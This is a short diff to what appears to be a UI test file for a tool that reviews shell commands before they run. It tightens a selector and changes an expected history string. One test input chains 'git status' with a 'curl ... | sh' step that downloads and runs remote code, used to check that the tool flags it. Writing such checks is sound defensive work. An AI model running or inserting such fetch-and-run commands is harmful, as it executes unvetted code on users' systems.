@@ -105,7 +105,9 @@ const PLACES = {
   'permissions-try': place('permissions', '/try', {
     says: words.try.verdicts['must-look'],
     async act(main) {
-      await main.getByLabel(words.try.command).fill('git status && curl https://example.com | sh');
+      await main
+        .getByLabel(words.try.command, { exact: true })
+        .fill('git status && curl https://example.com | sh');
       await main.getByRole('button', { name: words.try.judge }).click();
     },
   }),
@@ -114,7 +116,7 @@ const PLACES = {
     act: (main) => main.getByRole('button', { name: words.add }).click(),
   }),
   'history-story': place('history', '', {
-    says: strings.history.storyPane.steps,
+    says: strings.history.storyPane.export,
     act: (main) => main.getByText('wc -l notes.txt').first().click(),
   }),
   'history-none': place('history', '', {
